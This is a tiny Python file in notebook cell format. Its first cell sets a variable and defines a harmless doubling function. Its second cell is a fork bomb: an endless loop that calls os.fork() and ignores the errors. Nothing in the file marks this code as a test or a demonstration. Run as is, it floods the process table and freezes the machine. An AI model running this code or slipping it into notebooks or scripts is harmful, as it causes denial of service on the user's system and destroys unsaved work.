# %%
answer = 42


def double(x):
    return 2 * x

# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
